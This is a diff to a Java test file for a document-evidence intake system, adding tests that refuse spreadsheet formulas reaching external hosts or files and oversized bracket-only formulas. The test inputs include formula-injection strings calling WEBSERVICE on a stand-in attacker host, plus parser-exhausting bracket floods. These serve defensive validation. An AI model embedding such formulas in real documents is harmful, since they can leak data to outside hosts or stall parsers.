@@ -2,11 +2,14 @@ package id.lapor.evidence;
 
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.catchThrowableOfType;
+import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
 
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.time.Duration;
 import org.jspecify.annotations.Nullable;
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
@@ -92,6 +95,8 @@ class FetchingOfficeTests {
         "'https://jahat.example/[lain.xlsx]Sheet1'!A1",
         "'a\"b'!A1&amp;WEBSERVICE(\"https://jahat.example\")",
         "Tabel[a\"b]&amp;WEBSERVICE(\"https://jahat.example\")",
+        "Tabel[[#All],[a\"b]]&amp;WEBSERVICE(\"https://jahat.example\")",
+        "[[a\"b]&amp;WEBSERVICE(\"https://jahat.example\")",
         "\"'\"&amp;'file:///lain.ods'#$Sheet1.A1"
       })
   void areNotTakenWithFormulasThatReachElsewhere(String formula) throws IOException {
@@ -100,6 +105,29 @@ class FetchingOfficeTests {
     assertThat(
             refused(OfficeFile.xlsx().with("xl/worksheets/sheet1.xml", OfficeFile.cell(formula))))
         .isEqualTo(Unfit.ACTIVE);
+  }
+
+  /** Brackets that never close are looked through once, however many cells have them. */
+  @Test
+  void areReadInTimeWithNothingButBrackets() throws IOException {
+    String formula = "<c><f>" + "[".repeat(30_000) + "</f><v>1</v></c>";
+    OfficeFile sheet =
+        OfficeFile.xlsx()
+            .with(
+                "xl/worksheets/sheet1.xml",
+                OfficeFile.sheet(
+                    "worksheet", "<sheetData>" + formula.repeat(300) + "</sheetData>"));
+    assertTimeoutPreemptively(Duration.ofSeconds(20), () -> assertThat(refused(sheet)).isNull());
+  }
+
+  /** No program writes one so long, and nobody looks through it. */
+  @Test
+  void areNotTakenWithFormulasAsLongAsABook() throws IOException {
+    String formula = "[".repeat(40_000);
+    assertThat(refused(OfficeFile.ods("of:=" + formula))).isEqualTo(Unfit.UNFOLDS);
+    assertThat(
+            refused(OfficeFile.xlsx().with("xl/worksheets/sheet1.xml", OfficeFile.cell(formula))))
+        .isEqualTo(Unfit.UNFOLDS);
   }
 
   @ParameterizedTest
